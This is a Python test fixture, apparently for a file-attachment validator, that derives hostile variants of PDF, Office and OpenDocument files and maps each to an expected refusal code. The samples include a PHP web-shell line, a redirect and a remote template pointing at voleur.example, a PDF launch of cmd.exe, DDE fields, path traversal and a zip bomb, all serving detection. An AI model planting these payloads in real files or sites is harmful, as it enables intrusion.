"""Hostile files made of sound ones: what somebody would hide in them, and the codes that fit."""

from collections.abc import Callable, Iterator
from io import BytesIO
from typing import Any, Final

from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from app.pieces_jointes.verdict import CodeRefus, TypeFichier
from tests.pieces_jointes import echantillons as e
from tests.pieces_jointes.hostiles import fichier_local, milliard
from tests.producteurs.archives import parties
from tests.producteurs.fichiers import Fichier, bibliotheque

# The head of a program of Windows: at 60, where its second head begins.
_EXE: Final = b"MZ\x90".ljust(60, b"\0") + b"\x80".ljust(68, b"\0") + b"PE\0\0" + bytes(200)
_ZIP: Final = e.zipper({"a.exe": _EXE})
_PAGE: Final = b"<!DOCTYPE html><html><script>location='https://voleur.example'</script></html>"
_PHP: Final = b"<?php system($_GET['c']); ?>"
_DISTANT: Final = (
    f'<Relationships xmlns="{e.ESPACE}/package/2006/relationships"><Relationship Id="r1" '
    f'Type="{e.ESPACE}/officeDocument/2006/relationships/attachedTemplate" '
    'Target="https://voleur.example/a.dotm" TargetMode="External"/></Relationships>'
)

Derive = Callable[[bytes], bytes]


def deriver(fichier: Fichier) -> Iterator[tuple[str, bytes]]:
    """Hostile files made of this one, each with the name of what was done to it."""
    for geste, faire in _GESTES.items():
        yield geste, faire(fichier.contenu)
    for geste, faire in _PROPRES[fichier.type].items():
        yield geste, faire(fichier.contenu)


def _ajouter(nom: str, valeur: str | bytes) -> Derive:
    return lambda contenu: e.ajouter(contenu, {nom: valeur})


def _remplacer(nom: str, avant: bytes, apres: bytes) -> Derive:
    def faire(contenu: bytes) -> bytes:
        lues = parties(contenu)
        brut = lues[nom]
        assert isinstance(brut, bytes)
        assert avant in brut
        return e.zipper(lues | {nom: brut.replace(avant, apres, 1)})

    return faire


def _mot_de_passe(contenu: bytes) -> bytes:
    """Protected as Office does: an OLE file around what is encrypted."""
    sortie = BytesIO()
    bibliotheque("msoffcrypto.format.ooxml").OOXMLFile(BytesIO(contenu)).encrypt("secret", sortie)
    return sortie.getvalue()


def _pdf(changer: Callable[[Any], object]) -> Derive:
    def faire(contenu: bytes) -> bytes:
        ecrivain = PdfWriter(clone_from=BytesIO(contenu))
        changer(ecrivain)
        sortie = BytesIO()
        ecrivain.write(sortie)
        return sortie.getvalue()

    return faire


def _lancer(ecrivain: PdfWriter) -> None:
    action = {"/S": NameObject("/Launch"), "/F": TextStringObject("cmd.exe")}
    ecrivain.root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject(cle): valeur for cle, valeur in action.items()}
    )


_GESTES: Final[dict[str, Derive]] = {
    "programme après la fin": lambda contenu: contenu + _EXE,
    "archive après la fin": lambda contenu: contenu + _ZIP,
    "page après la fin": lambda contenu: contenu + _PAGE,
    "PHP après la fin": lambda contenu: contenu + _PHP,
    "programme avant le début": lambda contenu: _EXE + contenu,
    "page avant le début": lambda contenu: _PAGE + contenu,
}
_SUR_PDF: Final[dict[str, Derive]] = {
    "mot de passe": _pdf(lambda ecrivain: ecrivain.encrypt("secret", algorithm="AES-256")),
    "lance un programme": _pdf(_lancer),
    "programme joint": _pdf(lambda ecrivain: ecrivain.add_attachment("lisez-moi.exe", _EXE)),
    "macros jointes": _pdf(lambda ecrivain: ecrivain.add_attachment("plan.xlsm", e.xlsx(b"vba"))),
}
_SUR_ZIP: Final[dict[str, Derive]] = {
    "archive dedans": _ajouter("Pictures/image.png", _ZIP),
    "programme dedans": _ajouter("Pictures/image.png", _EXE),
    "programme par son nom": _ajouter("media/lisez-moi.exe", b"bonjour"),
    "nom qui sort": _ajouter("../../evil.txt", b"bonjour"),
    "bombe": _ajouter("media/image.bmp", bytes(101 * 1024 * 1024)),
}
_SUR_OOXML: Final = _SUR_ZIP | {
    "mot de passe": _mot_de_passe,
    "modèle distant": _ajouter("word/_rels/settings.xml.rels", _DISTANT),
    "entités XML": _ajouter("customXml/a.xml", milliard()),
    "fichier local": _ajouter("customXml/a.xml", fichier_local()),
}
_SUR_ODF: Final = _SUR_ZIP | {
    "macros": _ajouter("Basic/Standard/Module1.xml", "<module/>"),
    "mot de passe": _remplacer(
        e.MANIFESTE,
        b"</manifest:manifest>",
        b'<manifest:file-entry manifest:full-path="a" manifest:media-type="text/xml">'
        b"<manifest:encryption-data/></manifest:file-entry></manifest:manifest>",
    ),
}
_PROPRES: Final[dict[TypeFichier, dict[str, Derive]]] = {
    TypeFichier.PDF: _SUR_PDF,
    TypeFichier.DOCX: _SUR_OOXML
    | {
        "macros": _ajouter("word/vbaProject.bin", b"vba"),
        "DDE": _remplacer("word/document.xml", b"</w:r>", b"<w:instrText>DDE</w:instrText></w:r>"),
    },
    TypeFichier.XLSX: _SUR_OOXML
    | {
        "macros": _ajouter("xl/vbaProject.bin", b"vba"),
        "DDE": _ajouter("xl/externalLinks/externalLink9.xml", "<ddeLink ddeService='cmd'/>"),
    },
    TypeFichier.ODT: _SUR_ODF,
    TypeFichier.ODS: _SUR_ODF,
    TypeFichier.PNG: {},
    TypeFichier.JPEG: {},
}
ATTENDUS: Final[dict[str, tuple[CodeRefus, ...]]] = {
    **dict.fromkeys((geste for geste in _GESTES if "fin" in geste), (CodeRefus.SECOND_FORMAT,)),
    **dict.fromkeys(
        (geste for geste in _GESTES if "début" in geste),
        # What begins as a program, or as a page, and does not go on as a PDF, is of no type.
        (CodeRefus.SECOND_FORMAT, CodeRefus.TYPE_REFUSE),
    ),
    "mot de passe": (CodeRefus.FICHIER_CHIFFRE,),
    "lance un programme": (CodeRefus.CONTENU_ACTIF,),
    "programme joint": (CodeRefus.CONTENU_ACTIF,),
    "programme dedans": (CodeRefus.CONTENU_ACTIF,),
    "programme par son nom": (CodeRefus.CONTENU_ACTIF,),
    "DDE": (CodeRefus.CONTENU_ACTIF,),
    "macros": (CodeRefus.MACROS,),
    "macros jointes": (CodeRefus.MACROS,),
    "modèle distant": (CodeRefus.LIEN_EXTERNE,),
    "archive dedans": (CodeRefus.ARCHIVE_BOMBE,),
    "bombe": (CodeRefus.ARCHIVE_BOMBE,),
    "nom qui sort": (CodeRefus.ARCHIVE_BOMBE,),
    "entités XML": (CodeRefus.ARCHIVE_BOMBE,),
    "fichier local": (CodeRefus.ARCHIVE_BOMBE,),
}
"""The codes by which each trick is refused; by another one, the file would be only broken."""
